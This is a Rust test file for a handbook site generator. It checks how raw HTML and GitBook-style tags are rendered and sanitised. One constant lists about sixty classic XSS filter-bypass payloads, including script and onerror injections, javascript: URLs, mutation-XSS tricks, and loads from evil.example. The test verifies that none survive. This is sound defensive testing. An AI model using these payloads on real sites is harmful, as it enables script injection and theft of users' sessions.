//! Old handbooks in pages: other tools' tags and raw HTML, as a browser's parser reads what becomes of them.

use crate::support::{LONELY, built, compiled, elements, lay, none, pages, put, text};
use onside::diagnostic::Level;
use scraper::Html;
use std::collections::BTreeSet;
use tempfile::TempDir;

const TEAMS: &str =
    "[[team]]\nid = \"all\"\ntitle = \"All\"\nlead = \"lead\"\n\n[[role]]\nid = \"lead\"\ntitle = \"Lead\"\nteam = \"all\"\n";

/// A playbook that keeps the safe part of HTML, with one page more.
fn sanitised(page: &str) -> TempDir {
    let playbook = format!("{LONELY}raw_html = \"sanitised\"\n");
    lay(&[("content/playbook.toml", &playbook), ("content/teams.toml", TEAMS), ("content/pages/old.md", page)])
}

/// The prose of the page `old`.
fn prose(folder: &TempDir) -> String {
    let built = built(folder.path(), None);
    let html = text(&built["pages/old/index.html"]);
    let page = Html::parse_document(&html);
    let found = page.select(&scraper::Selector::parse(".prose").unwrap()).map(|e| e.inner_html()).collect::<Vec<_>>().join("\n");
    assert!(!found.is_empty(), "{html}");
    found
}

fn has(html: &str, parts: &[&str]) {
    none(parts.iter().filter(|part| !html.contains(**part)).map(|part| format!("{part}\nis not in\n{html}")));
}

fn has_not(html: &str, parts: &[&str]) {
    none(parts.iter().filter(|part| html.contains(**part)).map(|part| format!("{part}\nis in\n{html}")));
}

#[test]
fn a_hint_is_an_aside_whatever_stands_in_it() {
    let page = "# Old\n\n{% hint style=\"warning\" %}\nTwo **rooms**:\n\n1. one\n2. two\n{% endhint %}\n\nAfter.\n\n- item\n\n  {% hint style=\"success\" %}\n  in a list\n  {% endhint %}\n- next\n\n> {% hint style=\"danger\" %}\n> quoted\n> {% endhint %}\n";
    let html = prose(&sanitised(page));
    has(
        &html,
        &[
            "<div class=\"note note-warning\"><p class=\"note-title\">Careful</p><p>Two <strong>rooms</strong>:</p>",
            "note-tip",
            "note-caution",
        ],
    );
    has(&html, &["<li>two</li>\n</ol>\n</div>", "<p>After.</p>"]);
    has_not(&html, &["hint", "{%", "%}", "<!--"]);
}

#[test]
fn frames_of_gitbook_leave_what_they_frame() {
    let page = "# Old\n\n{% tabs %}\n{% tab title=\"Phone\" %}\nRing.\n{% endtab %}\n{% tab title=\"Mail\" %}\n```\n{% tab %}\n```\n{% endtab %}\n{% endtabs %}\n\n{% embed url=\"https://ferns.example/\" %}\n\n{% code title=\"a.txt\" %}\n```\ncode\n```\n{% endcode %}\n";
    let html = prose(&sanitised(page));
    has(
        &html,
        &[
            "<p><strong>Phone</strong></p>",
            "<p>Ring.</p>",
            "<a href=\"https://ferns.example/\">https://ferns.example/</a>",
            "<strong>a.txt</strong>",
        ],
    );
    has(&html, &["<code>{% tab %}\n</code>"]);
    assert_eq!(html.matches("{%").count(), 1, "{html}");
}

#[test]
fn what_is_never_closed_or_crossed_is_well_nested_all_the_same() {
    let pages = [
        "{% hint style=\"info\" %}\n- a\n{% endhint %}\n{% endhint %}\n{% hint %}\n",
        "{% tabs %}\n{% hint %}\n{% endtabs %}\n{% endhint %}\ntext\n",
        "<div>\n\n- <b>a\n- </div> b</b>\n\n</div></div></section>\n\ntext <i>open\n\nnext\n",
        "<details><summary>More\n\n# In it\n\n</summary></details>\n\n<table><tr><td>\n\n* x\n\n</table>\n\ntext\n",
        "<a name=\"x\">\n\n[link](old.md) <a href=\"old.md\">[in](old.md)\n\n[link](old.md)\n",
    ];
    for page in pages {
        let folder = sanitised(&format!("# Old\n\n{page}\nThe end.\n"));
        let built = built(folder.path(), None);
        let html = text(&built["pages/old/index.html"]);
        let document = Html::parse_document(&html);
        let serious = document.errors.iter().filter(|e| e.contains("Unexpected") || e.contains("open") || e.contains("nested"));
        none(serious.map(|e| format!("{page}: {e}")));
        let last = document.select(&scraper::Selector::parse(".prose > p").unwrap()).next_back().map(|e| e.inner_html());
        assert!(last.is_some_and(|l| l.contains("The end.")), "{page} swallowed the end: {html}");
    }
}

#[test]
fn a_targets_tag_is_read_as_its_author_meant() {
    let page = "# Old\n\n[a]({{ site.baseurl }}/old/) [b]({% link old.md %}) [c]({{< ref \"old.md\" >}}) [d]({{ site.other }}/x)\n\n## Part\n\n[e]({{site.baseurl}}/old.md#part)\n";
    let html = prose(&sanitised(page));
    has(&html, &[">a</a>", ">b</a>", ">c</a>", " d", "#h-part\">e</a>"]);
    has_not(&html, &["{{", "{%"]);
}

#[test]
fn the_safe_part_of_html_is_kept_and_linked() {
    let page = "# Old\n\n<div align=\"center\" style=\"color:red\" id=\"middle\" onclick=\"x()\">\n<b>Bold</b> &amp; <a href=\"other.md\" target=\"_blank\">other</a> <a href=\"https://ferns.example/\">web</a>\n</div>\n\n<details><summary>More</summary>\n\n**Inner** [up](#middle)\n\n</details>\n\n<table><tr><th>H</th></tr><tr><td colspan=\"2\">1<br>2</td></tr></table>\n\nWater H<sub>2</sub>O <kbd>Ctrl</kbd>\n\n<img src=\"fern.png\" width=\"40\" alt=\"A &quot;fern&quot;\" onerror=\"x()\">\n";
    let folder = sanitised(page);
    crate::support::put(folder.path(), "content/pages/other.md", "# Other\n");
    crate::support::put(folder.path(), "content/pages/fern.png", b"\x89PNG");
    let html = prose(&folder);
    has(
        &html,
        &[
            "<div id=\"h-middle\">",
            "<strong>Bold</strong> &amp; <a href=\"../other/\">other</a>",
            "<a href=\"https://ferns.example/\">web</a>",
        ],
    );
    has(
        &html,
        &["<details><summary>More</summary>", "<a href=\"#h-middle\">up</a>", "<th scope=\"col\">H</th>", "<td colspan=\"2\">1<br>2</td>"],
    );
    has(&html, &["H<sub>2</sub>O <kbd>Ctrl</kbd>", "alt=\"A &quot;fern&quot;\"", "width=\"40\""]);
    has_not(&html, &["style", "onclick", "onerror", "target", "align="]);
}

#[test]
fn without_leave_html_is_text() {
    let page = "# Old\n\n<a id=\"here\"></a>\n\n<center>Enjoy</center>\n\n<b>bold</b> [there](#here)\n";
    let html = prose(&lay(&[("content/playbook.toml", LONELY), ("content/teams.toml", TEAMS), ("content/pages/old.md", page)]));
    has(&html, &["&lt;center&gt;Enjoy&lt;/center&gt;", "&lt;b&gt;bold&lt;/b&gt;", "<span id=\"h-here\"></span>", "href=\"#h-here\""]);
    has_not(&html, &["<center", "<b>"]);
}

/// Elements and attributes that a page of prose may come to have, whatever its author wrote.
const ELEMENTS: [&str; 56] = [
    "a",
    "abbr",
    "strong",
    "br",
    "cite",
    "code",
    "del",
    "dfn",
    "em",
    "img",
    "ins",
    "kbd",
    "mark",
    "q",
    "samp",
    "small",
    "span",
    "sub",
    "sup",
    "var",
    "div",
    "blockquote",
    "pre",
    "hr",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "details",
    "summary",
    "figure",
    "figcaption",
    "ul",
    "ol",
    "li",
    "dl",
    "dt",
    "dd",
    "table",
    "caption",
    "thead",
    "tbody",
    "tfoot",
    "tr",
    "th",
    "td",
    "p",
    "section",
    "input",
    "html",
    "head",
    "body",
    "colgroup",
    "col",
    "time",
];
const ATTRIBUTES: [&str; 24] = [
    "href",
    "id",
    "class",
    "title",
    "src",
    "alt",
    "width",
    "height",
    "open",
    "scope",
    "colspan",
    "rowspan",
    "start",
    "tabindex",
    "role",
    "aria-label",
    "loading",
    "rel",
    "value",
    "type",
    "disabled",
    "checked",
    "aria-hidden",
    "lang",
];

/// Classics of those who try to get a script past a filter: each alone on a page, and all of them on one.
const WICKED: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img/src=x/onerror=alert(1)//>",
    "<img src=`x` onerror=`alert(1)`>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<a href=\"javascript:alert(1)\">a</a>",
    "<a href=\" &#14; javascript:alert(1)\">a</a>",
    "<a href=\"java&#115;cript:alert(1)\">a</a>",
    "<a href=\"java\tscript:alert(1)\">a</a>",
    "<a href=\"&#x6A&#x61&#x76ascript:alert(1)\">a</a>",
    "<a href=javascript&colon;alert(1)>a</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">a</a>",
    "<a href=\"vbscript:msgbox(1)\">a</a>",
    "<a href='x' title='\"><script>alert(1)</script>'>a</a>",
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object><embed src=\"javascript:alert(1)\">",
    "<form action=\"javascript:alert(1)\"><input type=submit><button formaction=\"javascript:alert(1)\">x</button></form>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style=\"background:url(https://evil.example/x)\">x</div>",
    "<p style=\"width: expression(alert(1))\">x</p>",
    "<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>",
    "<body onload=alert(1)><html manifest=x>",
    "<table background=\"https://evil.example/x\"><td background=javascript:alert(1)>x</table>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<img src=\"https://evil.example/t.gif\" srcset=\"https://evil.example/t.gif 2x\">",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<a href=\"//evil.example\" ping=\"https://evil.example/p\" id=\"__proto__\">a</a>",
    "<div id=\"search\"><span id=\"h-old\" class=\"palette\" data-x=\"y\" hidden>x</span></div>",
    "<img src=\"a\0b\" alt=\"\0\"><b\0>x</b\0>",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "<marquee onstart=alert(1)>x</marquee><blink>x</blink><font color=red>x</font>",
    "</div></main></body></html><script>alert(1)</script>",
    "{% hint title=\"<script>alert(1)</script>\" %}\nx\n{% endhint %}",
    "{% embed url=\"javascript:alert(1)\" %}",
    "{% tab title=\"\\\"><img src=x onerror=alert(1)>\" %}\n{% endtab %}",
    "{% image \"https://evil.example/x.png\" \"\\\"onerror=alert(1)\" %}",
    "[a]({{ site.baseurl }}javascript:alert(1))",
    "[a]({% link javascript:alert(1) %})",
    "[a]({{< ref \"javascript:alert(1)\" >}})",
];

/// What is wrong with the prose of a page, as a browser's parser reads it.
fn live(html: &str) -> Vec<String> {
    let fragment = Html::parse_document(html);
    let mut faults = Vec::new();
    for element in elements(&fragment) {
        if !ELEMENTS.contains(&element.name()) {
            faults.push(format!("<{}>", element.name()));
        }
        for (name, value) in element.attrs() {
            let plain: String = value.chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect::<String>().to_lowercase();
            let leads = matches!(name, "href" | "src")
                && !["https://", "http://", "mailto:", "tel:", "#", "..", "./"].iter().any(|s| plain.starts_with(s));
            let loads = name == "src" && (plain.contains("://") || plain.starts_with("//"));
            if !ATTRIBUTES.contains(&name) || (leads && plain.contains(':')) || loads {
                faults.push(format!("<{} {name}=\"{value}\">", element.name()));
            }
            if name == "id" && !value.starts_with("h-") && !value.starts_with("fn-") {
                faults.push(format!("id=\"{value}\" shadows a name of the document"));
            }
        }
    }
    faults
}

#[test]
fn nothing_wicked_is_live_whatever_the_setting() {
    let playbooks = [LONELY.to_owned(), format!("{LONELY}raw_html = \"sanitised\"\n")];
    let all = WICKED.join("\n\n");
    let inline: String = WICKED.iter().map(|w| format!("word {} word\n\n", w.replace('\n', " "))).collect();
    let listed: String = WICKED.iter().map(|w| format!("- {}\n", w.replace('\n', "\n  "))).collect();
    let table = format!("| a |\n|---|\n{}", WICKED.iter().map(|w| format!("| {} |\n", w.replace(['\n', '|'], " "))).collect::<String>());
    let texts = WICKED.iter().map(|w| (*w).to_owned()).chain([all, inline, listed, table]);
    let files: Vec<(String, String)> = texts
        .enumerate()
        .map(|(n, text)| (format!("content/pages/w{n}.md"), format!("# Old {n}\n\nBefore.\n\n{text}\n\nAfter.\n")))
        .collect();
    for playbook in playbooks {
        let mut laid: Vec<(&str, &str)> = vec![("content/playbook.toml", &playbook), ("content/teams.toml", TEAMS)];
        laid.extend(files.iter().map(|(path, text)| (path.as_str(), text.as_str())));
        let folder = lay(&laid);
        assert_eq!(compiled(folder.path()).findings.count(Level::Error), 0);
        let site = built(folder.path(), None);
        let mut faults = Vec::new();
        let mut seen = BTreeSet::new();
        for page in pages(&site).iter().filter(|p| p.path.starts_with("pages/w")) {
            seen.insert(page.path.clone());
            let prose = page.html.select(&scraper::Selector::parse(".prose").unwrap()).map(|e| e.html()).collect::<String>();
            faults.extend(live(&prose).into_iter().map(|fault| format!("{}: {fault}", page.path)));
            let ids: BTreeSet<&String> = page.ids.iter().collect();
            if ids.len() != page.ids.len() {
                faults.push(format!("{}: an id twice", page.path));
            }
        }
        assert_eq!(seen.len(), files.len());
        none(faults);
    }
}

/// What is relinked after an edit is what is read from nothing: the order, the parts, names in raw HTML, the setting.
#[test]
fn an_edit_of_an_old_handbook_is_as_if_it_were_read_anew() {
    use onside::compile::{Memory, compile, compile_again};
    let folder = sanitised("# Old\n\n[b](b.md#here)\n");
    put(folder.path(), "content/pages/SUMMARY.md", "# Summary\n\n## One\n\n- [b](b.md)\n\n## Two\n\n- [old](old.md)\n");
    put(folder.path(), "content/pages/b.md", "# B\n\n<div id=\"here\">x</div>\n");
    let project = crate::support::project(folder.path());
    let mut memory = Memory::default();
    let playbook = format!("{LONELY}raw_html = \"text\"\n");
    let edits = [
        ("content/pages/b.md", "# B\n\n<div id=\"there\">x</div>\n"),
        ("content/pages/b.md", "# B, again\n\n<a name=\"here\"></a>\n"),
        ("content/pages/SUMMARY.md", "# Summary\n\n## Three\n\n- [old](old.md)\n- [b](b.md)\n"),
        ("content/pages/old.md", "# Old\n\n<b>bold</b> <iframe> [b](b.md#here)\n"),
        ("content/playbook.toml", playbook.as_str()),
    ];
    let told = |compiled: &onside::compile::Compiled| {
        let pages = compiled.playbook.pages.iter().map(|p| format!("{} in {:?}", p.title(), p.section));
        format!("{}\n{}", pages.collect::<Vec<_>>().join("\n"), onside::diagnostic::machine::json(&compiled.findings, &compiled.files, &()))
    };
    let mut seen = BTreeSet::new();
    for (path, text) in std::iter::once(("content/x-note.txt", "")).chain(edits) {
        put(folder.path(), path, text);
        memory.look(&project, None).unwrap();
        let warm = told(&compile_again(&project, &mut memory).unwrap());
        assert_eq!(warm, told(&compile(&project).unwrap()), "after an edit of {path}");
        seen.insert(warm);
    }
    assert_eq!(seen.len(), 6, "every edit changes something:\n{}", seen.into_iter().collect::<Vec<_>>().join("\n--\n"));
}
